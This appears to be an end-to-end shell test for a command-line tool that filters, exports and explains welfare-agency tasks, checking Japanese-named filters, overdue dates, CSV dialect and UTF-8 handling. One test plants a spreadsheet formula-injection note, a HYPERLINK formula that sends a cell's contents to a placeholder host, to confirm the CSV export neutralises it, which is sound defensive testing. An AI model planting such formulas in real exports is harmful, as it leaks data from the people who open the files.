#!/bin/sh
# tests/e2e/task_outputs.sh — what agencies read from `kizuki tasks`,
# `export` and `explain` (issue 15): every filter validated (an unknown
# value exits 2 with did-you-mean; Japanese ward and unit names accepted as
# codes are), overdue judged at the task DB's last run unless --as-of says
# otherwise, one CSV dialect (BOM, CRLF, Japanese headers and names, codes in
# their own columns, formula cells neutralised) and JSON that is valid UTF-8
# even when a note, a reason or the evidence is not. Run from the repo root:
#   KIZUKI=/abs/path/build/kizuki sh tests/e2e/task_outputs.sh
set -eu

. tests/e2e/lib/common.sh
need_cmd python3 "tools/deps.sh test installs it"
need_cmd sqlite3 "tools/deps.sh installs it"

q() { sqlite3 "$TASKS" "$1"; }

# ids FILE: the ids of a `tasks --format json` array, space-separated.
ids() { python3 -c 'import json, sys; print(" ".join(str(t["id"]) for t in json.load(open(sys.argv[1], encoding="utf-8"))))' "$1"; }

# csv_col FILE HEADER: the values of column HEADER of the CSV FILE, one a line.
csv_col() {
  python3 -c 'import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
i = rows[0].index(sys.argv[2])
for r in rows[1:]: print(r[i])' "$1" "$2"
}

# {====== A small city over three weeks ======
CASES=$T/city.db
TASKS=$T/tasks.db
"$KIZUKI" gen --quiet --households 300 --seed 3 --out "$CASES"
for d in 2024-10-01 2024-10-08 2024-10-15; do
  check "run $d" 0 "$KIZUKI" run --quiet --cases "$CASES" --tasks "$TASKS" --as-of "$d"
done
LAST=2024-10-15
# }======

# {====== Filters: codes and Japanese names give the same tasks ======
# same_ids NAME ARGS_A -- ARGS_B: the two `tasks --format json` lists agree.
same_ids() {
  name=$1
  shift
  a="" b="" side=a
  for x in "$@"; do
    if [ "$x" = "--" ]; then side=b; continue; fi
    if [ $side = a ]; then a="$a $x"; else b="$b $x"; fi
  done
  # shellcheck disable=SC2086
  "$KIZUKI" tasks --tasks "$TASKS" --status all --format json $a >"$T/a.json" 2>"$T/err" || bad "$name: $a failed"
  # shellcheck disable=SC2086
  "$KIZUKI" tasks --tasks "$TASKS" --status all --format json $b >"$T/b.json" 2>"$T/err" || bad "$name: $b failed"
  same "$name" "$(ids "$T/b.json")" "$(ids "$T/a.json")"
  [ -n "$(ids "$T/a.json")" ] && ok || bad "$name: no task at all (the test is weak)"
}
n_chuo=$(q "SELECT count(*) FROM tasks WHERE ward = 'chuo' AND backlog = 0")
check "tasks --ward 中央区" 0 "$KIZUKI" tasks --tasks "$TASKS" --status all --ward 中央区 --format json
same "tasks --ward 中央区: every chuo task" "$(python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))))' "$T/out")" "$n_chuo"
same_ids "--ward chuo = 中央区" --ward chuo -- --ward 中央区
same_ids "--unit chuo.health_center = 中央区保健センター" --unit chuo.health_center -- --unit 中央区保健センター
same_ids "--unit = 中央区区保健センター" --unit chuo.health_center -- --unit 中央区区保健センター
same_ids "--unit city.child_guidance = 児童相談所" --unit city.child_guidance -- --unit 児童相談所
same_ids "--unit city.child_guidance.supervisor = 児童相談所（管理職）" \
  --unit city.child_guidance.supervisor -- --unit 児童相談所（管理職）
same_ids "--severity high = 高" --severity high -- --severity 高
same_ids "--status open = 対応中" --status open -- --status 対応中
same "--unit: the task DB's count" \
  "$("$KIZUKI" tasks --tasks "$TASKS" --unit 中央区保健センター --format json | python3 -c 'import json,sys; print(len(json.load(sys.stdin)))')" \
  "$(q "SELECT count(*) FROM tasks WHERE unit = 'chuo.health_center' AND status = 'open' AND backlog = 0")"
RULE=$(q "SELECT rule FROM tasks GROUP BY rule ORDER BY count(*) DESC LIMIT 1")
same_ids "--rule id = title" --rule "$RULE" -- --rule "$(grep -h -A3 "id *= *\"$RULE\"" rules/*.lua | sed -n 's/.*title *= *"\([^"]*\)".*/\1/p' | head -1)"

# A typo exits 2 with did-you-mean and lists nothing; export writes nothing.
typo() {   # typo OPTION VALUE NEAREST
  check "tasks $1 $2" 2 "$KIZUKI" tasks --tasks "$TASKS" "$1" "$2"
  expect "tasks $1 $2: did you mean" "$T/err" "did you mean '$3'?"
  [ ! -s "$T/out" ] && ok || bad "tasks $1 $2: printed tasks for a typo"
  check "export $1 $2" 2 "$KIZUKI" export --tasks "$TASKS" --out "$T/typo.csv" "$1" "$2"
  expect "export $1 $2: did you mean" "$T/err" "did you mean '$3'?"
  [ ! -e "$T/typo.csv" ] && ok || bad "export $1 $2: wrote a file for a typo"
}
typo --unit chuo.health_centre chuo.health_center
typo --ward chuoo chuo
typo --ward 中火区 中央区
typo --rule checkup.mised checkup.missed
typo --severity hgh high
typo --status opne open
check "export --ward 中央区" 0 "$KIZUKI" export --tasks "$TASKS" --out "$T/chuo.csv" --ward 中央区 --status all
same "export --ward 中央区: every row in chuo" "$(csv_col "$T/chuo.csv" 区コード | sort -u)" chuo
same "export --ward 中央区: the ward's name" "$(csv_col "$T/chuo.csv" 区 | sort -u)" 中央区
check "export --per-unit --ward 中央区" 0 "$KIZUKI" export --tasks "$TASKS" --out "$T/units" --per-unit --ward 中央区
[ -e "$T/units/chuo.health_center.csv" ] && ok || bad "export --per-unit --ward 中央区: no chuo.health_center.csv"
# }======

# {====== Overdue at the task DB's last run ======
# A run escalates every task past its due date and gives it a new one, so at
# the last run few (often none) are overdue; by the machine's clock (years
# later) every dated open task would be.
n_over=$(q "SELECT count(*) FROM tasks WHERE status = 'open' AND backlog = 0 AND due_on < '$LAST'")
n_clock=$(q "SELECT count(*) FROM tasks WHERE status = 'open' AND backlog = 0 AND due_on < date('now')")
[ "$n_clock" -gt "$n_over" ] && ok || bad "as many overdue by the clock as at the last run: the test is weak"
check "tasks (no --as-of)" 0 "$KIZUKI" tasks --tasks "$TASKS"
if [ "$n_over" -gt 0 ]; then
  expect "tasks: overdue at the last run" "$T/out" "$n_over overdue (due before $LAST, the last run, marked !)"
else
  expect "tasks: none overdue at the last run, and says the day" "$T/out" "none overdue (due before $LAST, the last run)"
fi
check "tasks --overdue --as-of the last run" 0 "$KIZUKI" tasks --tasks "$TASKS" --overdue --as-of 2024-10-25
expect "tasks --as-of: says so" "$T/out" "(due before 2024-10-25, --as-of, marked !)"
check "tasks --overdue (no --as-of)" 0 "$KIZUKI" tasks --tasks "$TASKS" --overdue --format json
same "tasks --overdue: judged at the last run, not the machine's clock" \
  "$(python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))))' "$T/out")" "$n_over"
check "export --overdue (no --as-of)" 0 "$KIZUKI" export --tasks "$TASKS" --overdue --out "$T/over.csv"
same "export --overdue: at the last run" "$(csv_col "$T/over.csv" 期限超過 | grep -c 超過 || true)" "$n_over"
check "tasks --as-of later" 0 "$KIZUKI" tasks --tasks "$TASKS" --overdue --as-of 2030-01-01 --format json
same "tasks --as-of: still says otherwise" "$(python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))))' "$T/out")" \
  "$(q "SELECT count(*) FROM tasks WHERE status = 'open' AND backlog = 0")"
# }======

# {====== Formula starters and bytes that are not UTF-8 ======
# A staff note with a formula, one with a tab first; and (as a task DB an
# older kizuki or another tool wrote might hold: `done` and `run` refuse
# them now) a note and a reason with bytes that are not UTF-8, a reason
# beginning with '-' and evidence with a bad byte.
A=$(q "SELECT id FROM tasks WHERE status = 'open' ORDER BY id LIMIT 1")
B=$(q "SELECT id FROM tasks WHERE status = 'open' ORDER BY id LIMIT 1 OFFSET 1")
C=$(q "SELECT id FROM tasks WHERE status = 'open' ORDER BY id LIMIT 1 OFFSET 2")
E=$(q "SELECT id FROM tasks WHERE status = 'open' AND json_array_length(evidence) > 0 AND json_type(evidence, '\$[0].id') = 'text' ORDER BY id LIMIT 1 OFFSET 3")
check "done (a formula note)" 0 "$KIZUKI" done "$A" --tasks "$TASKS" --note '=HYPERLINK("http://x.invalid/"&A1,"詳細")' --on 2024-10-16
check "done (a tab first)" 0 "$KIZUKI" done "$B" --tasks "$TASKS" --note "$(printf '\t=1+1')" --on 2024-10-16
check "done (not UTF-8) is refused" 2 "$KIZUKI" done "$C" --tasks "$TASKS" --note "$(printf 'visited \377\376 ok')" --on 2024-10-16
expect "done (not UTF-8): says why" "$T/err" "--note is not UTF-8 text"
same "done (not UTF-8): nothing written" "$(q "SELECT status FROM tasks WHERE id = $C")" open
check "done" 0 "$KIZUKI" done "$C" --tasks "$TASKS" --note "visited XX ok" --on 2024-10-16
q "UPDATE tasks SET done_note = replace(done_note, 'XX', CAST(X'FFFE' AS TEXT)) WHERE id = $C"
q "UPDATE tasks SET reason = '-2+3 ' || CAST(X'C3' AS TEXT) || ' reason' WHERE id = $E;
   UPDATE tasks SET evidence = json_set(evidence, '\$[0].id', 'X') WHERE id = $E;
   UPDATE tasks SET evidence = replace(evidence, '\"X\"', '\"@X' || CAST(X'FF' AS TEXT) || '\"') WHERE id = $E"
same "the task DB holds the bad bytes" "$(q "SELECT instr(CAST(evidence AS BLOB), X'FF') > 0 FROM tasks WHERE id = $E")" 1

check "tasks --format json (bad bytes)" 0 "$KIZUKI" tasks --tasks "$TASKS" --status all --format json
python3 -c 'import json,sys; json.loads(open(sys.argv[1],"rb").read().decode("utf-8", "strict"))' "$T/out" \
  && ok || bad "tasks --format json: not valid UTF-8 JSON"
expect "tasks --format json: the count on stderr" "$T/err" "4 byte(s) that were not UTF-8 replaced by U+FFFD"
python3 -c 'import json,sys
t = {x["id"]: x for x in json.load(open(sys.argv[1], encoding="utf-8"))}
assert t[int(sys.argv[2])]["done_note"] == "visited \ufffd\ufffd ok", t[int(sys.argv[2])]["done_note"]
assert t[int(sys.argv[3])]["evidence"][0]["id"] == "@X\ufffd"' "$T/out" "$C" "$E" \
  && ok || bad "tasks --format json: the bad bytes are not U+FFFD"
check "export --format jsonl (bad bytes)" 0 "$KIZUKI" export --tasks "$TASKS" --status all --format jsonl --out "$T/all.jsonl"
python3 -c 'import json,sys
n = 0
for line in open(sys.argv[1], "rb"):
    json.loads(line.decode("utf-8", "strict")); n += 1
print(n)' "$T/all.jsonl" >"$T/n" && ok || bad "export --format jsonl: a line is not valid UTF-8 JSON"
same "export jsonl: every task" "$(cat "$T/n")" "$(q "SELECT count(*) FROM tasks")"
expect "export jsonl: the count on stderr" "$T/err" "replaced by U+FFFD"

check "export csv (formulas)" 0 "$KIZUKI" export --tasks "$TASKS" --status all --out "$T/all.csv"
same "export csv: BOM" "$(head -c 3 "$T/all.csv" | od -An -tx1 | tr -d ' \n')" efbbbf
same "export csv: no bare LF" "$(awk '!/\r$/' "$T/all.csv" | wc -l)" 0
python3 -c 'import sys; open(sys.argv[1], "rb").read().decode("utf-8", "strict")' "$T/all.csv" \
  && ok || bad "export csv: not valid UTF-8"
grep -a -E '(^|,)"?[=+@-]' "$T/all.csv" >"$T/live" || true
[ ! -s "$T/live" ] && ok || { bad "export csv: a cell a spreadsheet runs as a formula"; show "$T/live"; }
grep -a -E "(^|,)\"?$(printf '\t')" "$T/all.csv" >"$T/live" || true
[ ! -s "$T/live" ] && ok || { bad "export csv: a cell beginning with a tab"; show "$T/live"; }
expect "export csv: the formula note, neutralised and quoted" "$T/all.csv" "\"'=HYPERLINK(\"\"http://x.invalid/\"\"&A1,\"\"詳細\"\")\""
expect "export csv: the reason, neutralised" "$T/all.csv" "\"'-2+3 "
same "export csv: the note read back" "$(csv_col "$T/all.csv" 完了メモ | grep HYPERLINK)" "'=HYPERLINK(\"http://x.invalid/\"&A1,\"詳細\")"
# }======

# {====== One CSV dialect, in Japanese, with the codes beside ======
check "tasks --format csv" 0 "$KIZUKI" tasks --tasks "$TASKS" --status all --backlog --format csv
cp "$T/out" "$T/tasks.csv"
check "export --backlog" 0 "$KIZUKI" export --tasks "$TASKS" --status all --backlog --out "$T/backlog.csv"
same "tasks --format csv is export's dialect, byte for byte" "$(cksum <"$T/tasks.csv")" "$(cksum <"$T/backlog.csv")"
check "export (open)" 0 "$KIZUKI" export --tasks "$TASKS" --out "$T/open.csv"
for h in 担当 規則 規則区分 区 機関種別 重大度 状態 根拠 担当コード 規則コード 区コード 機関種別コード 重大度コード 状態コード 根拠コード; do
  csv_col "$T/open.csv" "$h" >/dev/null 2>&1 && ok || bad "export csv: no column $h"
done
python3 - "$T/open.csv" >"$T/bad" <<'PY' || true
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
unit = {"chuo.health_center": "中央区 区保健センター", "city.child_guidance": "札幌市 児童相談所",
        "city.child_guidance.supervisor": "札幌市 児童相談所（管理職）"}
sev = {"critical": "緊急", "high": "高", "medium": "中", "low": "低"}
for r in rows:
    if r["担当コード"] in unit and r["担当"] != unit[r["担当コード"]]: print("unit", r["担当"])
    if r["重大度"] != sev[r["重大度コード"]]: print("severity", r["重大度"])
    if r["状態"] != "対応中" or r["状態コード"] != "open": print("status", r["状態"])
    if r["区コード"] == "chuo" and r["区"] != "中央区": print("ward", r["区"])
    if r["機関種別コード"] == "health_center" and r["機関種別"] != "区保健センター": print("agency", r["機関種別"])
    if r["規則"] == r["規則コード"] or not r["規則区分"]: print("rule", r["規則"])
    if "reports" in r["根拠"] or "received_on" in r["根拠"]: print("evidence", r["根拠"])
    if r["根拠コード"].startswith("reports ") and not r["根拠"].startswith("通告 "): print("evidence", r["根拠"])
PY
[ ! -s "$T/bad" ] && ok || { bad "export csv: a cell in codes where staff read names"; show "$T/bad"; }
grep -q "通告 E[0-9]*（受理 20[0-9-]*）" "$T/open.csv" && ok || bad "export csv: no evidence 「通告 E…（受理 …）」"
# }======

# {====== explain shows evidence that is not UTF-8 ======
check "explain (bad bytes)" 0 "$KIZUKI" explain "$E" --tasks "$TASKS"
expect "explain: the evidence item" "$T/out" "@X$(printf '\357\277\275')"
expect "explain: the reason" "$T/out" "-2+3 $(printf '\357\277\275') reason"
python3 -c 'import sys; open(sys.argv[1], "rb").read().decode("utf-8", "strict")' "$T/out" \
  && ok || bad "explain: output not valid UTF-8"
expect "explain: the count on stderr" "$T/err" "replaced by U+FFFD"
expect "explain: overdue judged at the last run" "$T/out" "last seen by a run $LAST"
# }======

summary task_outputs
